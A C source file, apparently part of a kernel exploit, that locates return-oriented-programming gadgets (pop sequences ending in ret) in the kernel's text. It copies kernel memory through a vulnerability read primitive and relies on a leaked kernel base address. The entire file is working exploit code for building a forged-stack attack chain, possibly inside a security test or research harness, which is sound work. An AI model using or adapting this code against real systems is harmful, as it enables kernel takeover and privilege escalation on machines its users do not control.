/* Finds pieces of the kernel's own code that a forged stack can string together. */
#include "attack.h"

#include <stdlib.h>
#include <string.h>

enum {
	OPCODE_POP = 0x58, /* plus the register's number */
	OPCODE_POP_LAST = 0x5f,
	OPCODE_POP_RSP = 0x5c,
	OPCODE_PREFIX_B = 0x41, /* turns the pop after it into one of r8 to r15 */
	OPCODE_RET = 0xc3,
	MAX_EXTRA = 6,
};

void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak)
{
	size_t nr_bytes = (leak->image_text_end - leak->image_base) & ~(sizeof(long) - 1);

	*text = (struct gadget_text){
		.base = leak->image_base,
		.nr_bytes = nr_bytes,
		.copy = malloc(nr_bytes),
	};
	if (text->copy == NULL) {
		attack_skip("no memory for a copy of the kernel's text");
	}
}

/* Of the text, or a byte that is in no gadget behind its end. */
static uint8_t byte_at(struct gadget_text *text, size_t offset)
{
	if (offset >= text->nr_bytes) {
		return 0;
	}
	while (text->nr_read <= offset) {
		long word = bw_vuln_read(text->base + text->nr_read);

		memcpy(text->copy + text->nr_read, &word, sizeof(word));
		text->nr_read += sizeof(word);
	}
	return text->copy[offset];
}

/* True where only pops and then a ret follow; counts the pops and says where the ret is. */
static bool ends_in_ret(struct gadget_text *text, size_t offset, struct gadget *gadget)
{
	for (gadget->nr_extra = 0; gadget->nr_extra <= MAX_EXTRA; gadget->nr_extra++, offset++) {
		uint8_t code = byte_at(text, offset);

		if (code == OPCODE_RET) {
			gadget->at_return = text->base + offset;
			return true;
		}
		if (code == OPCODE_PREFIX_B) {
			code = byte_at(text, ++offset);
		} else if (code == OPCODE_POP_RSP) {
			return false;
		}
		if (code < OPCODE_POP || code > OPCODE_POP_LAST) {
			return false;
		}
	}
	return false;
}

bool gadget_find(struct gadget_text *text, uint64_t from, enum gadget_register reg,
		 struct gadget *gadget)
{
	/*
	 * Compiled code pops r14 and r15 before it returns; from its second byte on that is rsi and
	 * rdi.
	 */
	for (size_t offset = from - text->base; offset < text->nr_bytes; offset++) {
		if (byte_at(text, offset) == OPCODE_POP + reg &&
		    ends_in_ret(text, offset + 1, gadget)) {
			gadget->address = text->base + offset;
			return true;
		}
	}
	return false;
}
